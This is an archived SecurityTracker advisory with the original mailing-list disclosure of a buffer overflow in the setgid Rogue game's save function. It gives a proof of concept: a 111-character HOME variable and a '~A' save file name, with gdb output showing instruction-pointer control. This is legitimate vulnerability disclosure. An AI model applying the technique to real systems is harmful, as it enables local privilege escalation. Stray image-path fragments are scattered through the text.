Home    |    View Topics    |    Search    |    Contact Us    |



Category:   Application (Game)  >   Rogue Vendors:   Stoehr, Tim et al
Rogue Game Software Buffer Overflow Lets Local Users Obtain Elevated Privileges
SecurityTracker Alert ID:  1006152
SecurityTracker URL:
CVE Reference:   GENERIC-MAP-NOMATCH   (Links to External Site)
Date:  Feb 23 2003
Impact:   Execution of arbitrary code via local system, User access via local system
Exploit Included:  Yes

Description:   A buffer overflow vulnerability was reported in the Rogue game software. A local user may be able to obtain additional privileges.

It is reported that the 'save game' feature contains a buffer overflow in the save_into_file() function in the 'save.c' file. A local user can reportedly set a specially crafted HOME environment variable and specify a file name that begins with a tilde ('~') when saving a game. Rogue will replace the tilde with the contents of the HOME environment variable without checking the length of the contents, according to the report.

A local user can overflow the buffer by filling the HOME environment variable with 111 characters and then saving a game with a file name that is two characters long (a tilde plus one additional character). Arbitrary code can be executed. Because the game is typically installed with set group id (setgid) 'games' group privileges, the local user can reportedly obtain 'games' group privileges.

Impact:   A local user can execute arbitrary code with 'games' group privileges.
Solution:   No vendor solution was available at the time of this entry. The author of the report has provided an unofficial patch, available in the Source Message [the patch is Base64encoded].
Vendor URL:!INDEX.html (Links to External Site)
Cause:   Boundary error
Underlying OS:  Linux (Any), UNIX (Any)

Message History:   None.

 Source Message Contents

Subject:  [VulnWatch] Rogue buffer overflow

Content-Type: TEXT/PLAIN; charset=US-ASCII

Rogue buffer overflow

VENDOR: Tim Stoehr et al.
              (any file called "*rogue*" in that directory)


Rogue is a text-based role-playing computer game with a long
history. It is the first of the rogue-like games.


Rogue's save game function (capital S) suffers from a buffer
overflow. The program is usually installed setgid games, so
successful exploitation means getting that group's access rights.If you specify a file name for saving beginning with a tilde
(~), Rogue will replace that character with the contents of
the environment variable HOME. This happens in the function
save_into_file() in save.c. The concatenation of that environment
variable with the rest of the file name takes place in a buffer of
80 characters, and the code doesn't check if it is overrun or not.

We can exploit this by giving the HOME environment variable a value
that is 111 characters long, and by saving a game with a file name
that is two characters long: a tilde (~) and one more character. That
second character in the file name will be the highest byte in the
address that the processor jumps to. The other bytes in the address
come from the HOME environment variable.

Here is a session capture that illustrates this problem:

$ export HOME=`perl -e 'print "U" x 111;'`
$ gdb rogue
GNU gdb Red Hat Linux (5.2-2)
Copyright 2002 Free Software Foundation, Inc.
GDB is free software, covered by the GNUGeneral Public License, and
you are welcome to change it and/or distribute copies of it under
certain conditions.
Type "show copying" to see the conditions.
There is absolutely no warranty for GDB.  Type "show warranty" for
This GDB was configured as "i386-redhat-linux"...
(gdb) r
Starting program: /home/vsu/secwork/rogue/rogue

[rogue session snipped]

file name? ~Aproblem accessing the save file
Program received signal SIGSEGV, Segmentation fault.0x41555555 in ?? ()
(gdb) bt
#0  0x41555555 in ?? ()
Cannot access memory at address 0x55555555
(gdb) i r
eax            0x1f     31
ecx            0x656c69 6646889
edx            0xff646b68       -10196120
ebx            0x4213030c       1108542220
esp            0xbfffdd90       0xbfffdd90
ebp            0x55555555       0x55555555
esi            0x40013020       1073819680
edi            0xbfffde84       -1073750396
eip            0x41555555       0x41555555eflags         0x10286  66182


The program seems to be unmaintained, so I wrote an unofficial
patch instead.


I have attached a patch that corrects this problem. I have patched
against rogue985.

// Ulf Harnhammar
   VSU Security
   will audit PHP and Perl code for money

Content-Type: TEXT/PLAIN; charset=US-ASCII; name="rogue.patch"Content-Transfer-Encoding: BASE64
Content-ID:<Pine.LNX.4.21.0302212207400.12401@Tempo.Update.UU.SE>
Content-Disposition: attachment; filename="rogue.patch"



Go to the Top of This SecurityTracker Archive Page

Home   |    View Topics   |    Search   |    Contact Us

This web site uses cookies for webanalytics. Learn More

Copyright 2021, LLC